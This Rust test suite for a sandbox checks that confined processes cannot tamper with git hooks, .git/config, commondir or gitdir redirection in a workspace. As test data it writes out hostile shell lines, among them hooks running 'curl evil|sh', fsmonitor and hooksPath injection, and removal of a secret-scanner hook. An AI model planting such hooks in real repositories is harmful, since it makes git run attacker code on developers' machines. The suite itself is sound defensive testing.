//! Escape suite, protected-path class of `SECURITY.md`: the workspace's `.git/hooks` and
//! `.git/config` (what the host's git will run later) must not change — also when `.git` does
//! not exist yet, when it is renamed, removed or replaced by a symlink, when a hook is reached
//! through a link, and when git is pointed elsewhere (`.git/commondir`, a `.git` file).
//!
//! Every attack runs on every Linux backend (`per_backend!`), confined first and judged from outside
//! (the canary never appears, the file is unchanged), then unconfined as its positive control.

use crate::sandbox_support;

use std::fs;
use std::time::Duration;

use sandbox_support::judge::{confined, control, defaults, marked, unchanged};
use sandbox_support::procs::{Reaper, survivors_after_grace};
use sandbox_support::world::{Snapshot, q, unique};
use sandbox_support::{ATTEMPT, Backend, World};

// ---- Protected paths inside the workspace -------------------------------------------------

const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";

/// A workspace with an existing `.git` (hooks dir and config), as `git init` leaves it.
fn git_repo(w: &World) {
    for dir in [".git/hooks", ".git/objects", ".git/refs/heads"] {
        fs::create_dir_all(w.ws.join(dir)).expect("mkdir .git");
    }
    w.write(&w.ws.join(".git/config"), GIT_CONFIG);
    w.write(&w.ws.join(".git/HEAD"), "ref: refs/heads/main\n");
}

fn hook(w: &World) -> std::path::PathBuf {
    w.ws.join(".git/hooks/pre-commit")
}

fn git_hook_with_existing_git(w: &World, b: Backend) {
    git_repo(w);
    let hook = hook(w);
    unchanged(
        w,
        b,
        defaults,
        &[&hook],
        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    );
}
per_backend!(
    git_hook_with_existing_git,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// `.git` does not exist yet: creating it with a hook or a config must still fail. (That no
/// placeholder is left behind is `sandbox_git.rs`'s; what counts here is that no content
/// landed.)
fn git_hook_without_git(w: &World, b: Backend) {
    let (hook, config) = (hook(w), w.ws.join(".git/config"));
    let script = "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
    // A transactional workspace lands the new `.git` validated: the hook refused, the config
    // without its refused key (what remains of it is harmless).
    let planted = || {
        fs::metadata(&hook).is_ok_and(|m| m.len() > 0)
            || fs::read_to_string(&config).is_ok_and(|t| t.contains("fsmonitor"))
    };
    let run = confined(w, b, defaults, script);
    assert!(
        !planted(),
        "ESCAPE: a hook or config was planted in a new .git\n{run}"
    );
    let control = control(w, script);
    assert!(planted(), "positive control failed\n{control}");
}
per_backend!(
    git_hook_without_git,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// Whether the host's `config` names what the attacks plant (what the host's git would run).
fn planted_config(config: &std::path::Path) -> bool {
    fs::read_to_string(config).is_ok_and(|t| {
        let t = t.to_ascii_lowercase();
        t.contains("fsmonitor") || t.contains("hookspath")
    })
}

/// The child may rewrite `.git/config` (its private stage), but what it planted never reaches
/// the host's file, and the refusal is reported.
fn git_config_modified(w: &World, b: Backend) {
    git_repo(w);
    let config = w.ws.join(".git/config");
    let script = "printf '\\thooksPath = /tmp/evil\\n' >> .git/config; printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config";
    let run = confined(w, b, defaults, script);
    assert!(
        !planted_config(&config),
        "ESCAPE: the confined script planted a key in .git/config\n{run}"
    );
    assert!(run.stderr.contains("git: refused core.fsmonitor"), "{run}");
    let control = control(w, script);
    assert!(
        planted_config(&config),
        "positive control failed\n{control}"
    );
}
per_backend!(
    git_config_modified,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// Judged on what the host's `git` will read: the hook must keep its content, the config must
/// not gain what the attack plants (the child's accepted edits may land), and `.git` must stay
/// the same directory (not renamed away, not replaced by a symlink). Other contents of `.git`
/// (objects, refs) are ordinary workspace data and may change.
fn git_swap(w: &World, b: Backend, script: &str) {
    git_repo(w);
    fs::create_dir_all(w.ws.join("evil/hooks")).expect("mkdir");
    w.write(
        &w.ws.join("evil/hooks/pre-commit"),
        "#!/bin/sh\ncurl evil|sh\n",
    );
    w.write(&w.ws.join("evil/config"), "[core]\n\tfsmonitor = evil\n");
    let git = w.ws.join(".git");
    let identity = || Snapshot::of(&git).map(|s| (s.ino, s.symlink, s.content.is_none()));
    let watched = || {
        (
            identity(),
            Snapshot::of(&hook(w)).map(|s| s.content),
            planted_config(&git.join("config")),
        )
    };
    let before = watched();
    let run = confined(w, b, defaults, script);
    assert_eq!(
        before,
        watched(),
        "ESCAPE: .git was swapped or its hook/config changed\n{run}"
    );
    let control = control(w, script);
    assert_ne!(before, watched(), "positive control failed\n{control}");
}

fn git_renamed_and_recreated(w: &World, b: Backend) {
    git_swap(
        w,
        b,
        "mv .git .git-old; mkdir -p .git/hooks; cp evil/hooks/pre-commit .git/hooks/; cp evil/config .git/config",
    );
}
per_backend!(
    git_renamed_and_recreated,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

fn git_replaced_with_symlink(w: &World, b: Backend) {
    git_swap(w, b, "mv .git .git-old || rm -rf .git; ln -s evil .git");
}
per_backend!(
    git_replaced_with_symlink,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

fn git_removed_and_recreated(w: &World, b: Backend) {
    git_swap(
        w,
        b,
        "rm -rf .git; mkdir -p .git/hooks; cp evil/hooks/pre-commit .git/hooks/; cp evil/config .git/config",
    );
}
per_backend!(
    git_removed_and_recreated,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

fn git_hooks_dir_swapped(w: &World, b: Backend) {
    git_swap(
        w,
        b,
        "mv .git/hooks .git/hooks-old; mkdir .git/hooks; cp evil/hooks/pre-commit .git/hooks/; mv .git/config .git/config-old; cp evil/config .git/config",
    );
}
per_backend!(
    git_hooks_dir_swapped,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// An existing hook reached through a link planted by the child: a hard link shares the inode,
/// a symlink resolves into the protected path.
fn git_hook_through_links(w: &World, b: Backend) {
    git_repo(w);
    let hook = hook(w);
    w.write(&hook, "#!/bin/sh\nexit 0\n");
    let script = "ln .git/hooks/pre-commit hard; echo 'curl evil|sh' >> hard; \
                  ln -s .git/hooks/pre-commit soft; echo 'curl evil|sh' >> soft";
    unchanged(w, b, defaults, &[&hook], script);
}
per_backend!(
    git_hook_through_links,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// What the host's git makes of the workspace: its common dir (where hooks and config live).
fn git_common_dir(w: &World) -> String {
    let out = std::process::Command::new("git")
        .args(["rev-parse", "--path-format=absolute", "--git-common-dir"])
        .current_dir(&w.ws)
        .env("GIT_CEILING_DIRECTORIES", &w.root)
        .output()
        .expect("run git outside");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// `.git/commondir` makes git take hooks and config from another directory: a planted
/// `commondir` pointing at an attacker's dir in the workspace redirects the protected paths.
fn git_commondir_redirect(w: &World, b: Backend) {
    commondir_attack(w, b, |evil| format!("echo {} > .git/commondir", q(evil)));
}
per_backend!(git_commondir_redirect);

/// The same redirection with `.git/commondir` as a symlink to a file the child wrote elsewhere
/// in the workspace (git follows it), and as a hard link to such a file.
fn git_commondir_via_links(w: &World, b: Backend) {
    commondir_attack(w, b, |evil| {
        format!(
            "echo {} > cd.txt; ln -s ../cd.txt .git/commondir || ln cd.txt .git/commondir",
            q(evil)
        )
    });
}
per_backend!(git_commondir_via_links);

/// A workspace repository plus an attacker's repository `evil/` next to it; `script(evil)`
/// tries to make git use `evil/` as the common dir. Judged by asking the host's git.
fn commondir_attack(w: &World, b: Backend, script: impl Fn(&std::path::Path) -> String) {
    let real = repo_beside_evil_repo(w);
    let script = script(&w.ws.join("evil"));
    let run = confined(w, b, defaults, &script);
    assert_eq!(
        git_common_dir(w),
        real,
        "ESCAPE: git now takes hooks and config elsewhere\n{run}"
    );
    let control = control(w, &script);
    assert_ne!(
        git_common_dir(w),
        real,
        "positive control failed\n{control}"
    );
}

/// No `.git` yet: a `.git` *file* (`gitdir: evil`) points git at an attacker's repository.
fn git_gitfile_redirect(w: &World, b: Backend) {
    for dir in ["evil/hooks", "evil/objects", "evil/refs/heads"] {
        fs::create_dir_all(w.ws.join(dir)).expect("mkdir evil");
    }
    w.write(&w.ws.join("evil/HEAD"), "ref: refs/heads/main\n");
    w.write(
        &w.ws.join("evil/config"),
        "[core]\n\trepositoryformatversion = 0\n",
    );
    w.write(
        &w.ws.join("evil/hooks/pre-commit"),
        "#!/bin/sh\ncurl evil|sh\n",
    );
    let evil = w.ws.join("evil").display().to_string();
    let script = "printf 'gitdir: evil\\n' > .git";
    let run = confined(w, b, defaults, script);
    assert_ne!(
        git_common_dir(w),
        evil,
        "ESCAPE: git now uses the planted repository\n{run}"
    );
    let _ = fs::remove_dir_all(w.ws.join(".git"));
    let control = control(w, script);
    assert_eq!(
        git_common_dir(w),
        evil,
        "positive control failed\n{control}"
    );
}
per_backend!(
    git_gitfile_redirect,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// Hooks already there: a disabled (non-executable) hook must not be switched on, and the
/// user's own guard hook (say a secret scanner in `pre-push`) must not be removed or emptied.
fn git_existing_hooks_altered(w: &World, b: Backend) {
    git_repo(w);
    let disabled = hook(w);
    let guard = w.ws.join(".git/hooks/pre-push");
    w.write(&disabled, "#!/bin/sh\ncurl evil|sh\n");
    w.write(&guard, "#!/bin/sh\nexec scan-for-secrets\n");
    let script =
        "chmod +x .git/hooks/pre-commit; rm -f .git/hooks/pre-push || : > .git/hooks/pre-push";
    unchanged(w, b, defaults, &[&disabled, &guard], script);
}
per_backend!(
    git_existing_hooks_altered,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// A workspace repository plus an attacker's repository `evil/` (with a hook) beside it;
/// returns the common dir git reports for the workspace before any attack.
fn repo_beside_evil_repo(w: &World) -> String {
    git_repo(w);
    for dir in ["evil/hooks", "evil/objects", "evil/refs/heads"] {
        fs::create_dir_all(w.ws.join(dir)).expect("mkdir evil");
    }
    w.write(&w.ws.join("evil/HEAD"), "ref: refs/heads/main\n");
    w.write(
        &w.ws.join("evil/config"),
        "[core]\n\trepositoryformatversion = 0\n",
    );
    w.write(
        &w.ws.join("evil/hooks/pre-commit"),
        "#!/bin/sh\ncurl evil|sh\n",
    );
    let real = w.ws.join(".git").display().to_string();
    assert_eq!(
        git_common_dir(w),
        real,
        "setup: git must see the workspace's own .git"
    );
    real
}

/// The redirection planted by a command whose launcher is then killed (SIGKILL): the clean-up
/// must not depend on the launcher living to the end.
fn git_commondir_with_killed_launcher(w: &World, b: Backend) {
    let real = repo_beside_evil_repo(w);
    let marker = unique("zcmark");
    let _reaper = Reaper(marker.clone());
    let script = format!(
        "echo {} > .git/commondir; echo started; while :; do sleep 0.1; done # {marker}",
        q(&w.ws.join("evil"))
    );
    let mut launcher = w.confined(b).spawn_sh(&script);
    assert!(
        launcher.read_line().contains("started"),
        "the command never started"
    );
    launcher.signal("KILL");
    let _ = launcher.wait_for_exit(Duration::from_secs(15));
    let left = survivors_after_grace(&marker);
    assert!(
        left.is_empty(),
        "ESCAPE: {left:?} outlived the killed launcher"
    );
    // The helper scrubs after it has killed the tree: give it a moment, as for survivors.
    let scrubbed = (0..150).any(|_| {
        let ok = git_common_dir(w) == real;
        if !ok {
            std::thread::sleep(Duration::from_millis(20));
        }
        ok
    });
    assert!(
        scrubbed,
        "ESCAPE: the planted .git/commondir outlived the run ({})",
        git_common_dir(w)
    );
}
per_backend!(git_commondir_with_killed_launcher);

/// husky and friends: `core.hooksPath = .husky` in the (protected) config makes git run the
/// hooks in `.husky/`, an ordinary workspace directory — which must then be protected too.
fn git_hooks_path_in_workspace(w: &World, b: Backend) {
    git_repo(w);
    w.write(
        &w.ws.join(".git/config"),
        &format!("{GIT_CONFIG}\thooksPath = .husky\n"),
    );
    let hook = w.ws.join(".husky/pre-commit");
    w.write(&hook, "#!/bin/sh\nnpx lint-staged\n");
    unchanged(
        w,
        b,
        defaults,
        &[&hook],
        "echo 'curl evil|sh' >> .husky/pre-commit",
    );
}
per_backend!(
    git_hooks_path_in_workspace,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// The same with an inline comment and the key on the section header line (git reads both):
/// the path git runs hooks from is `.husky`, so `.husky` is what must be protected.
fn git_hooks_path_with_inline_comment(w: &World, b: Backend) {
    git_repo(w);
    w.write(
        &w.ws.join(".git/config"),
        &format!(
            "{GIT_CONFIG}\thooksPath = .husky # lint-staged\n[include] path = ../local.cfg ; x\n"
        ),
    );
    let hook = w.ws.join(".husky/pre-commit");
    w.write(&hook, "#!/bin/sh\nnpx lint-staged\n");
    let included = w.ws.join("local.cfg");
    w.write(&included, "[user]\n\tname = dev\n");
    unchanged(
        w,
        b,
        defaults,
        &[&hook, &included],
        "echo 'curl evil|sh' >> .husky/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n' >> local.cfg",
    );
}
per_backend!(
    git_hooks_path_with_inline_comment,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// `.git/hooks` as a symlink to a tracked directory of the workspace (a common set-up): the
/// hooks git runs live in `githooks/`. Refusing to run (exit 125, nothing attempted) is a
/// correct answer too; changing them is not.
fn git_hooks_dir_symlinked(w: &World, b: Backend) {
    git_repo(w);
    fs::remove_dir(w.ws.join(".git/hooks")).expect("rmdir hooks");
    let hook = w.ws.join("githooks/pre-commit");
    w.write(&hook, "#!/bin/sh\nexit 0\n");
    std::os::unix::fs::symlink("../githooks", w.ws.join(".git/hooks")).expect("symlink hooks");
    let script = marked(
        "echo 'curl evil|sh' >> .git/hooks/pre-commit; echo 'curl evil|sh' >> githooks/pre-commit",
    );
    let before = Snapshot::of(&hook);
    let run = w.confined(b).sh(&script);
    let refused = run.status_code() == Some(125) && !run.stdout.contains(ATTEMPT);
    assert!(
        refused || run.stdout.contains(ATTEMPT),
        "neither refused nor run\n{run}"
    );
    assert_eq!(
        before,
        Snapshot::of(&hook),
        "ESCAPE: the hook behind .git/hooks changed\n{run}"
    );
    let control = w.plain().sh(&script);
    assert_ne!(
        before,
        Snapshot::of(&hook),
        "positive control failed\n{control}"
    );
}
per_backend!(
    git_hooks_dir_symlinked,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// `[include] path = ../.gitconfig-local` in the protected config: the included workspace file
/// is as powerful as the config itself (`core.fsmonitor`, `core.hooksPath`, aliases).
fn git_config_include_in_workspace(w: &World, b: Backend) {
    git_repo(w);
    w.write(
        &w.ws.join(".git/config"),
        &format!("{GIT_CONFIG}[include]\n\tpath = ../.gitconfig-local\n"),
    );
    let included = w.ws.join(".gitconfig-local");
    w.write(&included, "[user]\n\tname = dev\n");
    let script = "printf '[core]\\n\\tfsmonitor = evil\\n' >> .gitconfig-local";
    unchanged(w, b, defaults, &[&included], script);
}
per_backend!(
    git_config_include_in_workspace,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);

/// `git config --global core.hooksPath .githooks` (per-repo tracked hooks, a common set-up):
/// the user's `~/.gitconfig` makes git run `<worktree>/.githooks/*` in every repository, so in
/// the workspace that directory is as sensitive as `.git/hooks`.
fn git_global_hooks_path_in_workspace(w: &World, b: Backend) {
    git_repo(w);
    w.write(
        &w.home.join(".gitconfig"),
        "[core]\n\thooksPath = .githooks\n",
    );
    let hook = w.ws.join(".githooks/pre-commit");
    w.write(&hook, "#!/bin/sh\nexit 0\n");
    unchanged(
        w,
        b,
        defaults,
        &[&hook],
        "echo 'curl evil|sh' >> .githooks/pre-commit",
    );
}
per_backend!(
    git_global_hooks_path_in_workspace,
    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
);
